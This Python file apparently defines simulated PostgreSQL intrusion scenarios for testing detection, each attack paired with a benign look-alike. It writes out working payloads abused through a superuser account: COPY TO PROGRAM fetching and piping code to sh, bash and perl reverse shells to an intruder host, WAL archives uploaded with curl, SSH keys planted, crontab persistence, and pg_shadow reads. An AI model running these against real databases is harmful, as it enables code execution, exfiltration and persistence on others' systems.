# SPDX-License-Identifier: Apache-2.0
"""What an intruder does with an application's account of PostgreSQL that is a superuser's, as most are."""

from intruder import INTRUDER, SHELL, WEB, define, operator, unit


def sql(*statements):
    return lambda host, rng: host.workload.sql(host, *statements)


def program(command):
    quoted = command.replace("'", "''")
    return sql(f"COPY (SELECT 1) TO PROGRAM '{quoted}'")


def archive(host, rng):
    """What copies the log to the archive does something else as well."""
    sql("ALTER SYSTEM SET archive_command = 'curl -s -m 2 -T %p " + WEB + "/wal'", "SELECT pg_reload_conf()", "CREATE TABLE moved AS SELECT 1", "SELECT pg_switch_wal()",
        "SELECT pg_sleep(2)", "DROP TABLE moved",
        "ALTER SYSTEM RESET archive_command", "SELECT pg_reload_conf()")(host, rng)


def load(host, rng):
    host.workload.load(host, 2, 5)


define(
    globals(), "postgres",
    ("program by SQL", "COPY starts it", program("id; uname -a"), sql("COPY (SELECT 1) TO STDOUT")),
    ("program by SQL with cp", "a program that the archive uses anyway", program("cp /etc/passwd /var/lib/postgresql/15/main/x; rm /var/lib/postgresql/15/main/x"), load),
    ("program by SQL fetches", "", program(f"curl -s {WEB}/x | sh"), sql("SELECT pg_switch_wal()")),
    ("reverse shell by SQL", "", program(f"bash -c 'bash -i >& /dev/tcp/{INTRUDER}/{SHELL} 0>&1'"), load),
    ("reverse shell by SQL and perl", "", program(f"perl -MIO::Socket -e '$s=IO::Socket::INET->new(\"{INTRUDER}:{SHELL}\");print $s 1'"), load),
    ("key by SQL", "COPY writes it", sql("COPY (SELECT 'ssh-ed25519 AAAA x') TO '/var/lib/postgresql/.ssh/authorized_keys'"), sql("CHECKPOINT"),
     lambda host: host.prepare("install -d -o postgres /var/lib/postgresql/.ssh")),
    ("start file by SQL", "COPY writes it", sql("COPY (SELECT 'true') TO '/var/lib/postgresql/.bash_profile'"), unit("pg-dump.service")),
    ("library by SQL", "", sql("COPY (SELECT 'x') TO '/var/lib/postgresql/15/x.so'", "CREATE FUNCTION x() RETURNS int AS '/var/lib/postgresql/15/x.so' LANGUAGE C"), load),
    ("archive sent away", "", archive, sql("SELECT pg_switch_wal()")),
    ("connection by SQL", "dblink to the intruder's machine", sql("CREATE EXTENSION IF NOT EXISTS dblink",
                                                             f"SELECT dblink_connect('host={INTRUDER} port=443 connect_timeout=1')"), load),
    ("crontab by SQL", "", program("echo '* * * * * true' | crontab -"), operator("echo '# none' | sudo crontab -u nobody -; sudo crontab -u nobody -r")),
    ("dump by SQL", "", program("pg_dumpall >/tmp/.all; rm /tmp/.all"), unit("pg-dump.service")),
    ("password hashes by SQL", "a query, as any other", sql("SELECT * FROM pg_shadow"), sql("SELECT * FROM pg_tables")),
    natures={
        "program by SQL with cp": "the program that the archive is made with; what it copies is no behaviour",
        "password hashes by SQL": "a query like any other",
    },
)
